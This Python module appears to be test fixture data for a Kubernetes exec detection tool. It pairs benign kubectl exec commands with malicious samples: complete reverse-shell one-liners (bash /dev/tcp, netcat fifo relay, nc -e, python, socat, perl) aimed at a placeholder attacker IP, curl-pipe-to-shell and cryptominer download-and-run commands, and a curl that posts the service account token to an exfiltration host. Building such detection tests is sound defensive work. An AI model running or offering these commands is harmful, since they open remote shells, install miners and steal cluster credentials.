"""The commands people and attackers run through ``kubectl exec``, for
:mod:`devtools.traffic.stream`.

Benign commands are what operators and automation really exec: shells, inspection, health probes
(some of them curl or wget to endpoints the Elastic rule's noise filter excludes, so the "looks
like a download but is a probe" path is exercised too). Malicious commands cover the two rule
families we ship: reverse shells (``/dev/tcp``, netcat ``-e``, fifo relays, socat, interpreter
one-liners) and HTTPS downloads (pipe to shell, drop and run, quiet fetch, exfiltration by POST).
Every malicious command must fire at least one loaded rule whatever the client's encoding;
``tests/unit/test_traffic.py`` holds us to that.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final, Literal

Family = Literal["benign", "reverse_shell", "download"]
ATTACKER: Final = "203.0.113.66"


@dataclass(frozen=True, slots=True)
class ExecCommand:
    """One argv and how it is run: interactive sessions ask for stdin and a TTY."""

    argv: tuple[str, ...]
    family: Family
    interactive: bool = False


BENIGN: Final[tuple[ExecCommand, ...]] = (
    ExecCommand(("sh",), "benign", interactive=True),
    ExecCommand(("bash",), "benign", interactive=True),
    ExecCommand(("ls", "-la", "/app"), "benign"),
    ExecCommand(("cat", "/etc/os-release"), "benign"),
    ExecCommand(("env",), "benign"),
    ExecCommand(("ps", "aux"), "benign"),
    ExecCommand(("df", "-h"), "benign"),
    ExecCommand(("tail", "-n", "200", "/var/log/app/app.log"), "benign"),
    ExecCommand(("sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz"), "benign"),
    ExecCommand(("wget", "-qO-", "https://kubernetes.default.svc/readyz"), "benign"),
    ExecCommand(("redis-cli", "ping"), "benign"),
    ExecCommand(("psql", "-U", "app", "-c", "select count(*) from orders"), "benign"),
    ExecCommand(("python3", "-c", "import sys; print(sys.version)"), "benign"),
    ExecCommand(("nginx", "-s", "reload"), "benign"),
)

REVERSE_SHELLS: Final[tuple[ExecCommand, ...]] = (
    ExecCommand(("bash", "-c", f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"), "reverse_shell"),
    ExecCommand(
        (
            "sh",
            "-c",
            f"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ATTACKER} 4444 >/tmp/f",
        ),
        "reverse_shell",
    ),
    ExecCommand(("nc", "-e", "/bin/sh", ATTACKER, "4444"), "reverse_shell"),
    ExecCommand(
        (
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();"
            f"s.connect(('{ATTACKER}',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
            "pty.spawn('/bin/sh')",
        ),
        "reverse_shell",
    ),
    ExecCommand(
        ("socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", f"tcp:{ATTACKER}:4444"),
        "reverse_shell",
    ),
    ExecCommand(
        (
            "perl",
            "-e",
            f'use Socket;$i="{ATTACKER}";$p=4444;'
            'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
            'exec("/bin/sh -i");};',
        ),
        "reverse_shell",
    ),
)

DOWNLOADS: Final[tuple[ExecCommand, ...]] = (
    ExecCommand(("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh"), "download"),
    ExecCommand(("curl", "-o", "/tmp/kit", f"https://{ATTACKER}/kit"), "download"),
    ExecCommand(("wget", "-qO-", "https://evil.example/miner.sh"), "download"),
    ExecCommand(
        ("sh", "-c", "wget https://evil.example/xmrig -O /tmp/x && chmod +x /tmp/x && /tmp/x"),
        "download",
    ),
    ExecCommand(
        (
            "curl",
            "-sk",
            "--data-binary",
            "@/var/run/secrets/kubernetes.io/serviceaccount/token",
            "https://exfil.example/t",
        ),
        "download",
    ),
)

MALICIOUS: Final[tuple[ExecCommand, ...]] = REVERSE_SHELLS + DOWNLOADS
